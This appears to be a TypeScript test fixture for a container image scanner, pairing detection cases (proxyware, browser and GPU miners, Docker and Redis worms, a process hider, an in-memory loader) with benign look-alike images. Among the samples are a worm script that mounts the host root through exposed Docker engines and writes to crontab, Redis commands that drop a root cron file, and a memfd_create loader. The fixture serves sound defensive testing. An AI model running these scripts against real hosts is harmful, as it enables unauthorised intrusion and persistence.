import { readdirSync, readFileSync } from 'node:fs';
import { type ImageCase, image, layer, program, starts } from './image-case.ts';

const NGINX = { Cmd: ['nginx', '-g', 'daemon off;'] };
const AGENT = ['Traffmonetizer.Cli', 'start accept', '--token'];
const TOKEN = `${'A'.repeat(43)}=`;
const GPU = ['clCreateProgramWithSource', 'kawpow', 'progpowz', 'mining.subscribe', 'mining.notify'];
const HIDER = ['readdir', 'dlsym', '/proc/self/fd/%d', '/proc/%s/stat', '%d (%[^)]s'];
const WORM = `#!/bin/bash
masscan 192.0.2.0/24 -p2375 --rate 100 | while read ip; do
docker -H tcp://$ip:2375 run --privileged -v /:/mnt example sh -c 'chroot /mnt sh -c "echo x >> /etc/crontab"'
done
`;
const PAGE = `<script>var m = new CoinHive.Anonymous('${'0'.repeat(20)}EXAMPLE', {throttle: 0.4}); m.start();</script>\n`;
const PRESENCE = `#!/usr/bin/env python3
import asyncio, websockets
async def main():
    async with websockets.connect("wss://secure.ws.teneo.pro/websocket?accessToken=EXAMPLE") as ws:
        while True:
            await ws.send('{"type": "PING"}')
            await asyncio.sleep(10)
asyncio.run(main())
`;
const RULES = `rule x {
  strings:
    $a = "traffmonetizer/cli_v2"
    $b = "image: x"
  condition:
    any of them
}
`;
const FOLDER = new URL('../../rules/yara/', import.meta.url);
const SHIPPED = Object.fromEntries(
  readdirSync(FOLDER).map((name) => [`app/rules/yara/${name}`, readFileSync(new URL(name, FOLDER), 'utf8')]),
);

function holds(
  name: string,
  rule: string,
  spec: ImageCase['spec'],
  severity: NonNullable<ImageCase['severity']> = 'medium',
): ImageCase {
  return { name, rule: `yara/${rule}`, spec, severity };
}

function utf16(strings: readonly string[]): Buffer {
  return Buffer.from(strings.join('\0'), 'utf16le');
}

/** What only the content of files tells, as rules/yara/ has it. All inert. */
export const CONTENTS: readonly ImageCase[] = [
  holds(
    'proxyware: renamed and started',
    'proxyware-program',
    image({ 'usr/sbin/crond': program(AGENT) }, { Cmd: ['/usr/sbin/crond', '-f'] }),
    'critical',
  ),
  holds(
    'proxyware: UTF-16, as .NET has it, and lying there',
    'proxyware-program',
    image({ 'opt/.net/helper': Buffer.concat([program(['hostfxr']), utf16(AGENT)]) }, NGINX),
    'high',
  ),
  holds(
    'proxyware: in a program of three megabytes',
    'proxyware-program',
    image(
      {
        'usr/bin/agent': Buffer.concat([
          program(['padding']),
          Buffer.alloc(3_000_000, 7),
          Buffer.from(`\0${AGENT.join('\0')}\0`),
        ]),
      },
      { Cmd: ['/usr/bin/agent'] },
    ),
    'critical',
  ),
  holds(
    'proxyware: a command',
    'proxyware-start',
    starts(`/usr/lib/sysd start accept --token ${TOKEN} &\nexec nginx`),
    'high',
  ),
  holds(
    'proxyware: taken away by a later layer',
    'proxyware-program',
    image(
      [layer({ 'tmp/a': program(AGENT) }), layer({}, { items: [{ path: 'tmp/.wh.a', data: '' }] })],
      NGINX,
    ),
  ),
  holds(
    'proxyware: named as a rule pack, and run',
    'proxyware-start',
    starts('. /opt/rules/list.yar', { 'opt/rules/list.yar': `/opt/x start accept --token ${TOKEN}\n` }),
    'high',
  ),
  holds(
    'presence for pay',
    'presence-for-pay',
    image({ 'app/ten.py': PRESENCE }, { Cmd: ['python3', '/app/ten.py'] }),
    'high',
  ),
  holds(
    'browser miner in the web root',
    'browser-miner-client',
    image({ 'var/www/html/index.php': PAGE }, NGINX),
  ),
  holds(
    'browser miner in a page',
    'browser-miner-client',
    image({ 'usr/share/nginx/html/a.js': PAGE }, NGINX),
  ),
  holds(
    'miner for graphics cards',
    'gpu-miner',
    image({ 'usr/bin/node': program(GPU) }, { Cmd: ['/usr/bin/node', 'app.js'] }),
    'critical',
  ),
  holds(
    'miner of Dero, named nginx',
    'other-coin-miner',
    image({ 'usr/sbin/nginx': program(['AstroBWTv3', '--daemon-rpc-address']) }, NGINX),
    'critical',
  ),
  holds('worm over container engines', 'engine-worm', starts(WORM.slice(12)), 'critical'),
  holds(
    'worm over Redis, lying there',
    'redis-worm',
    image(
      {
        'opt/r.sh':
          '#!/bin/sh\nredis-cli -h $1 config set dir /var/spool/cron\nredis-cli -h $1 config set dbfilename root\nredis-cli -h $1 save\n',
      },
      NGINX,
    ),
  ),
  holds(
    'packer without its mark',
    'packed-without-mark',
    image({ 'app/x': program(['PROT_EXEC|PROT_WRITE failed.']) }, { Cmd: ['/app/x'] }),
    'high',
  ),
  holds(
    'library that hides processes',
    'process-hider',
    image({ 'usr/local/lib/libz.so': program(HIDER) }, NGINX),
    'high',
  ),
  holds(
    'program run from memory',
    'runs-from-memory',
    starts('exec python3 /app/l.py', {
      'app/l.py':
        'import ctypes, os, base64\nfd = ctypes.CDLL(None).memfd_create("", 1)\nos.write(fd, base64.b64decode(X))\nos.execv("/proc/self/fd/%d" % fd, ["nginx"])\n',
    }),
    'high',
  ),
];

/** Honest images that hold the same words. */
export const CONTENT_TWINS: readonly ImageCase[] = [
  {
    name: 'a block-list of all of these',
    spec: image(
      {
        'etc/pihole/gravity.list': `${['traffmonetizer.com', 'honeygain.com', 'coinhive.com', 'wynd.network'].map((host) => `0.0.0.0 ${host}`).join('\n')}\n`,
      },
      NGINX,
    ),
  },
  {
    name: 'rules of a scanner',
    spec: image({ 'opt/scanner/proxyware.yar': RULES, 'opt/scanner/all.txt': RULES }, NGINX),
  },
  {
    name: 'documentation of a miner in a page',
    spec: image({ 'usr/share/doc/blocker/README.md': PAGE, 'srv/docs/miners.md': `We found ${PAGE}` }, NGINX),
  },
  {
    name: 'a program that computes on graphics cards',
    spec: image(
      { 'usr/bin/render': program(['clCreateProgramWithSource', 'clEnqueueNDRangeKernel', 'octopus']) },
      { Cmd: ['/usr/bin/render'] },
    ),
  },
  {
    name: 'a client of container engines',
    spec: image(
      { 'usr/bin/ctl': program(['/containers/create', 'HostConfig', 'Binds', ':2375', 'authorized_keys']) },
      { Cmd: ['/usr/bin/ctl'] },
    ),
  },
  {
    name: 'a script that sets up Redis',
    spec: starts(
      'redis-cli config set dir /data\nredis-cli config set dbfilename dump.rdb\nredis-cli save\nexec nginx',
    ),
  },
  {
    name: 'tools that read /proc, and fakeroot',
    spec: image(
      {
        'usr/bin/ps': program(['readdir', '/proc/%s/stat', 'procps']),
        'usr/lib/libfakeroot.so': program(['readdir', 'dlsym', '/proc/self/fd/%d']),
      },
      NGINX,
    ),
  },
  {
    name: 'memory for data in Python',
    spec: starts('exec python3 /app/a.py', {
      'app/a.py': 'import os, mmap\nfd = os.memfd_create("buffer")\npool = mmap.mmap(fd, 4096)\n',
    }),
  },
  {
    name: 'a scanner in an image that says so',
    spec: {
      ...image(
        { 'usr/bin/masscan': program(['rate:%6.2f-kpps', '--excludefile']) },
        { Cmd: ['/usr/bin/masscan'], Labels: { 'org.opencontainers.image.title': 'masscan' } },
      ),
    },
  },
  {
    name: 'clearpull with its own rules',
    spec: image({ ...SHIPPED, 'app/index.js': '' }, { Cmd: ['node', '/app/index.js'] }),
  },
];
